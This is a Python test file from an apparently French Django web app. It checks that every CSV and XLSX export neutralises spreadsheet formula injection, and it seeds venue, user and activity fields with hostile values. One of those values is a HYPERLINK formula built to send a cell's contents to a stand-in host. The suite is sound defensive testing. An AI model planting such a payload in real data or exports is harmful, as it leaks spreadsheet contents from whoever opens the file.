"""Formula injection ("CSV injection"): a value typed as `=HYPERLINK(…)`, `+…`, `-…` or
`@…` (a venue, a commune, a procedure name, a staff member's name, an ORDS field…)
never reaches a spreadsheet as something it would evaluate, in any CSV or XLSX export.

Every export is listed in EXPORTS below. A new URL whose address ends in `.csv` or
`.xlsx`, or a new `export_…` command, fails `test_every_export_is_checked_here` until it
is added there. The writing itself goes through `comptoir.ops.spreadsheets`, which
tests/ops/test_spreadsheets.py enforces.
"""

import csv
import datetime
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.management import call_command, get_commands
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from comptoir.journal.cra import PlaceType
from comptoir.ops.spreadsheets import is_formula_like
from comptoir.repair import actions as repair_actions
from comptoir.repair.models import RepairItem
from comptoir.repair.outcome import record_outcome
from comptoir.repair.reference import RepairStatus
from comptoir.reports.models import FunderReport
from comptoir.venues.roles import Role
from tests.conftest import client_for
from tests.factories import (
    ActivityFactory,
    MembershipFactory,
    NetworkFactory,
    UserFactory,
    VenueFactory,
)
from tests.repair.helpers import make_event
from tests.reports.test_opendata import assert_valid, validate_csv

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"Cliquez ici")'
PLUS = "+1+1"
MINUS = "-1+1"
AT = "@SUM(1)"
HOSTILE = (HYPERLINK, PLUS, MINUS, AT)
# Enough accompaniments per commune that no small-count rule hides a commune's row.
PER_COMMUNE = 12
START, END = datetime.date(2026, 1, 1), datetime.date(2026, 6, 30)
PERIOD = {"du": START.isoformat(), "au": END.isoformat()}


@pytest.fixture
def world():
    """A venue whose every free-text field a coordinator or mediator may type is hostile."""
    network = NetworkFactory(name=AT, slug="reseau-hostile")
    venue = VenueFactory(
        network=network,
        name=HYPERLINK,
        slug="lieu-hostile",
        address=PLUS,
        commune=MINUS,
        summary=(AT + " " + "x" * 280)[:280],  # 281 with the quote: cut to the schema's 280
        description=HYPERLINK,
        phone="06 12 34 56 78",  # published as +33612345678: a number, left as is
    )
    coordinator = UserFactory(username="hostile", first_name=PLUS, last_name=MINUS)
    MembershipFactory(user=coordinator, venue=venue, role=Role.COORDINATOR)
    for n, commune in enumerate(HOSTILE):
        for day in range(PER_COMMUNE):
            ActivityFactory(
                venue=venue,
                mediator=coordinator,
                date=START + datetime.timedelta(days=day + 20 * n),
                commune=commune,
                procedure_name=HOSTILE[(n + 1) % 4],
            )
    ActivityFactory(
        venue=venue,
        mediator=coordinator,
        date=START,
        collective=True,
        workshop_title=AT,
        place_type=PlaceType.OTHER,
        place_commune=HYPERLINK,
    )
    event = make_event(venue, coordinator, repairers=[coordinator])
    item = repair_actions.intake_item(
        actor=coordinator, event=event, category_id=16, problem=MINUS, brand=PLUS
    )
    record_outcome(
        actor=coordinator,
        item=repair_actions.start_repair(actor=coordinator, item=item),
        repair_status=RepairStatus.FIXED,
    )
    report = FunderReport.objects.create(
        title=HYPERLINK, funder=AT, start=START, end=END, context=PLUS
    )
    report.venues.set([venue])
    return {"venue": venue, "network": network, "user": coordinator, "report": report}


# --- the exports ------------------------------------------------------------------------------


def _get(world, name: str, *args, query: str = "") -> tuple[str, bytes]:
    response = client_for(world["user"]).get(reverse(name, args=args) + query)
    assert response.status_code == 200, (name, response.status_code)
    content = (
        b"".join(response.streaming_content) if response.streaming else bytes(response.content)
    )
    return response["Content-Type"], content


def _report_query(world) -> str:
    return "?" + "&".join([f"lieu={world['venue'].slug}", *(f"{k}={v}" for k, v in PERIOD.items())])


def _command(tmp_path: Path, name: str, *args: str) -> tuple[str, bytes]:
    output = tmp_path / f"{name}.csv"
    call_command(name, *args, "--output", str(output), stdout=io.StringIO(), stderr=io.StringIO())
    return "text/csv", output.read_bytes()


# name → (world, tmp_path) → (content type, bytes). A new export gets a line here.
EXPORTS: dict[str, Callable] = {
    "url journal:export": lambda w, _t: _get(w, "journal:export", w["venue"].slug),
    "url repair:export_ords": lambda w, _t: _get(w, "repair:export_ords", w["venue"].slug),
    "url reports:activities_csv": lambda w, _t: _get(
        w, "reports:activities_csv", query=_report_query(w)
    ),
    "url reports:activities_xlsx": lambda w, _t: _get(
        w, "reports:activities_xlsx", query=_report_query(w)
    ),
    "url reports:export_xlsx": lambda w, _t: _get(w, "reports:export_xlsx", query=_report_query(w)),
    "url reports:funder_report_xlsx": lambda w, _t: _get(
        w, "reports:funder_report_xlsx", w["report"].pk
    ),
    "url reports:opendata_csv": lambda w, _t: _get(w, "reports:opendata_csv", w["network"].slug),
    "command export_activities": lambda w, t: _command(
        t, "export_activities", "--venue", w["venue"].slug
    ),
    "command export_ords": lambda w, t: _command(t, "export_ords", "--venue", w["venue"].slug),
    "command export_opendata": lambda w, t: _command(
        t, "export_opendata", "--network", w["network"].slug
    ),
}

# Found by the discovery below but writing no spreadsheet (say why).
NOT_SPREADSHEETS = {
    "command export_credentials": "signed JSON and VC-JWT badge files",
}


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _check_csv(content: bytes) -> set[str]:
    """Every cell is inert; returns the hostile values found (neutralised)."""
    cells = _csv_cells(content)
    live = [cell for cell in cells if is_formula_like(cell)]
    assert not live, f"cells a spreadsheet would evaluate: {live[:5]}"
    return {value for value in HOSTILE if any(cell.startswith("'" + value) for cell in cells)}


def _check_xlsx(content: bytes) -> set[str]:
    """No cell is a formula; a formula-like text is stored as text, quote-prefixed."""
    book = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if is_formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found.update(v for v in HOSTILE if cell.value.startswith(v))
    return found


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_export_hands_a_spreadsheet_a_formula(name, world, tmp_path):
    content_type, content = EXPORTS[name](world, tmp_path)
    if "spreadsheetml" in content_type:
        found = _check_xlsx(content)
    else:
        assert content_type.startswith("text/csv"), content_type
        found = _check_csv(content)
    # The hostile values did reach the file (as text): the test is not vacuous.
    assert found == set(HOSTILE), f"{name}: only {found} reached the file"


def test_the_open_data_file_stays_valid_against_the_national_schema(world, tmp_path):
    _type, content = EXPORTS["command export_opendata"](world, tmp_path)
    assert_valid(validate_csv(content))
    row = next(csv.DictReader(io.StringIO(content.decode("utf-8"))))
    assert row["nom"] == "'" + HYPERLINK
    assert row["telephone"] == "+33612345678"  # a number, not a formula: untouched
    assert len(row["presentation_resume"]) == 280


def test_numbers_stay_numbers_and_dates_stay_dates_in_the_activity_workbook(world):
    _type, content = EXPORTS["url reports:activities_xlsx"](world, None)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    first = next(sheet.iter_rows(min_row=2, max_row=2))
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    values = dict(zip(header, first, strict=True))
    assert values["Durée (min)"].data_type == "n"
    assert isinstance(values["Date"].value, datetime.datetime)
    assert values["Commune du bénéficiaire"].value in HOSTILE  # kept as typed, as text


def test_an_ords_export_imported_by_another_venue_gives_back_the_values_as_typed(world, tmp_path):
    _type, content = EXPORTS["command export_ords"](world, tmp_path)
    other = VenueFactory(network=world["network"], slug="autre-lieu")
    path = tmp_path / "ords.csv"
    path.write_bytes(content)
    call_command("import_ords", str(path), venue=other.slug, stdout=io.StringIO())
    item = RepairItem.objects.get(venue=other)
    assert (item.brand, item.problem) == (PLUS, MINUS)


# --- every export is in the list --------------------------------------------------------------

FILE_ROUTE = re.compile(r"\.(csv|xlsx)\$?$")


def _file_urls(patterns, namespace="") -> set[str]:
    names = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            names |= _file_urls(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and FILE_ROUTE.search(str(pattern.pattern)):
            names.add(f"url {namespace}{pattern.name}")
    return names


def test_every_export_is_checked_here():
    discovered = _file_urls(get_resolver().url_patterns)
    discovered |= {
        f"command {name}"
        for name, app in get_commands().items()
        if name.startswith("export_") and app.startswith("comptoir.")
    }
    missing = discovered - set(EXPORTS) - set(NOT_SPREADSHEETS)
    assert not missing, f"add these exports to EXPORTS in {__file__}: {sorted(missing)}"
    gone = (set(EXPORTS) | set(NOT_SPREADSHEETS)) - discovered
    assert not gone, f"these exports no longer exist: {sorted(gone)}"
